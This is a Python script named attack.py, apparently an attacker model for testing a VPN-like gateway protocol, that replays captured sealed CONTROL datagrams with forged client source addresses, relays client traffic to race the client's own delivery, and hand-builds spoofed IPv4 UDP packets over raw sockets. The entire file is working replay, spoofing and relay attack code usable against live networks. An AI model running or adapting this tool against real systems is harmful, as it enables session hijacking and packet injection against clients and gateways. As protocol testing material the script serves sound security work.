#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""attack.py: somebody who can read the client's network and send from his own.

    attack.py replay TAP FROM TO GATEWAY PORT    sends again the sealed CONTROL
        datagrams that TAP (see sniff.py --full) shows between two times, from
        his own address and with the client's as a forged source; says how many
        he sent, and how many of these were requests to reattach
    attack.py relay GATEWAY PORT    takes such lines from standard input and
        sends at once what the client sent, from his own address, faster than
        the client's own network delivers it, and passes on to the client what
        the gateway answers him; says at the end how many went each way
    attack.py forge SOURCE DESTINATION PAYLOAD    sends one datagram
"""
import signal
import socket
import struct
import sys
import threading

CONTROL, DATA = "5", "4"
# A sealed REATTACH_REQUEST without padding is known by its length: 16 bytes of
# header, 8 + 52 of body, 16 of tag (see module/wire.h); no other is as long.
REQUEST_BYTES = 92
MTU = 1500
ATTACKER_PORT = 6666


def own_socket():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("", ATTACKER_PORT))
    return sock


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


def forged(source, destination, payload):
    """An IPv4 UDP datagram with any source; the kernel fills in the rest."""
    length = 8 + len(payload)
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
    udp = struct.pack("!HHHH", source[1], destination[1], length, 0) + payload
    pseudo = addresses + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp)) + udp[8:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64,
                       socket.IPPROTO_UDP, 0) + addresses
    return head + udp


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def replay(tap, first, last, gateway):
    own = own_socket()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = requests = 0
    with open(tap, encoding="ascii") as lines:
        for line in lines:
            word = line.split()
            if len(word) < 9 or word[4] != CONTROL or \
               address(word[3]) != gateway or \
               not int(first) <= int(word[0]) <= int(last):
                continue
            payload = bytes.fromhex(word[8])
            own.sendto(payload, gateway)
            raw.sendto(forged(address(word[2]), gateway, payload),
                       (gateway[0], 0))
            sent += 2
            requests += 2 * (len(payload) == REQUEST_BYTES)
    print(sent, requests, flush=True)


class Enough(Exception):
    pass


def enough(*_):
    raise Enough


class Back(threading.Thread):
    """The way from the gateway to the client, in the gateway's name."""

    def __init__(self, own, gateway):
        super().__init__(daemon=True)
        self.own, self.gateway = own, gateway
        self.client, self.sent = None, 0
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)

    def run(self):
        while True:
            payload = self.own.recv(1 << 16)
            if self.client:
                self.raw.sendto(forged(self.gateway, self.client, payload),
                                (self.client[0], 0))
                self.sent += 1


def relay(gateway):
    signal.signal(signal.SIGTERM, enough)
    own = own_socket()
    back = Back(own, gateway)
    back.start()
    sent = 0
    try:
        for line in sys.stdin:
            word = line.split()
            if len(word) < 9 or word[4] not in (CONTROL, DATA) or \
               address(word[3]) != gateway or int(word[6]) > MTU:
                continue
            back.client = address(word[2])
            own.sendto(bytes.fromhex(word[8]), gateway)
            sent += 1
    except Enough:
        pass
    print(sent, back.sent, flush=True)


def forge(source, destination, payload):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.sendto(forged(address(source), address(destination),
                      bytes.fromhex(payload)), (address(destination)[0], 0))


def main():
    if sys.argv[1] == "forge":
        forge(*sys.argv[2:5])
    elif sys.argv[1] == "replay":
        replay(*sys.argv[2:5], (sys.argv[5], int(sys.argv[6])))
    else:
        relay((sys.argv[2], int(sys.argv[3])))


if __name__ == "__main__":
    main()
